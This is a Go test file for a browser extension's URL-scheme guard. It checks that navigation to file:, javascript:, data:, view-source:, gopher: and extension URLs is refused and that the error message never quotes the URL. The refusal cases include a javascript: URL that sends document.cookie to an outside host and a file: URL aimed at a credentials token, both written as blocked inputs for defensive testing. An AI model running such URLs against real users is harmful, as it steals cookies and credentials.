package scheme

import (
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"
)

type cases struct {
	From  string `json:"from"`
	Cases []struct {
		URL        string `json:"url"`
		Navigation bool   `json:"navigation"`
		Page       bool   `json:"page"`
	} `json:"cases"`
}

// TestCases walks the cases the extension's mirror walks too
// (extension/tests/restricted.test.mjs).
func TestCases(t *testing.T) {
	raw, err := os.ReadFile("testdata/cases.json")
	if err != nil {
		t.Fatal(err)
	}
	var cs cases
	if err := json.Unmarshal(raw, &cs); err != nil {
		t.Fatal(err)
	}
	for _, c := range cs.Cases {
		t.Run(c.URL, func(t *testing.T) {
			if got := Navigation(c.URL, cs.From) == nil; got != c.Navigation {
				t.Errorf("Navigation(%q) allowed = %v, want %v", c.URL, got, c.Navigation)
			}
			if got := Page(c.URL) == nil; got != c.Page {
				t.Errorf("Page(%q) allowed = %v, want %v", c.URL, got, c.Page)
			}
		})
	}
}

func TestRefusalSaysWhyAndNeverQuotesTheURL(t *testing.T) {
	for _, tc := range []struct{ url, want string }{
		{"file:///home/u/.gasoline/credentials/approver.token?s3cret", "a file or folder on this computer"},
		{"javascript:fetch('//x?'+document.cookie+'s3cret')", "execute_js"},
		{"chrome-extension://abcdefghijklmnopabcdefghijklmnop/sidepanel.html#s3cret", "Gasoline's own panel"},
		{"view-source:https://example.com/?s3cret", "view-source"},
		{"data:text/html,s3cret", "data:"},
		{"gopher://example.com/s3cret", "a gopher: URL"},
	} {
		err := Navigation(tc.url, "")
		if !errors.Is(err, ErrRefused) {
			t.Fatalf("Navigation(%q) = %v, want a refusal", tc.url, err)
		}
		te := ToolError("interact navigate", err)
		if te == nil || te.Code != Code {
			t.Fatalf("ToolError = %v, want code %s", te, Code)
		}
		if !strings.Contains(te.Message, tc.want) || !strings.Contains(te.Message, "nothing the user approves or grants changes that") {
			t.Errorf("message %q: want it to say %q and that no grant re-opens it", te.Message, tc.want)
		}
		if strings.Contains(te.Message, "s3cret") {
			t.Errorf("message %q quotes the URL", te.Message)
		}
	}
}

func TestBlobOfTheSameOriginOnly(t *testing.T) {
	from := "https://app.example/page"
	if err := Navigation("blob:https://app.example/1234", from); err != nil {
		t.Errorf("a blob: of the page's own origin: %v", err)
	}
	for _, from := range []string{"https://other.example/", "", "file:///x"} {
		if err := Navigation("blob:https://app.example/1234", from); err == nil {
			t.Errorf("a blob: of https://app.example from %q was allowed", from)
		}
	}
}

func TestToolErrorIgnoresOtherErrors(t *testing.T) {
	if ToolError("x", errors.New("other")) != nil {
		t.Error("a non-refusal became a restricted_page error")
	}
}
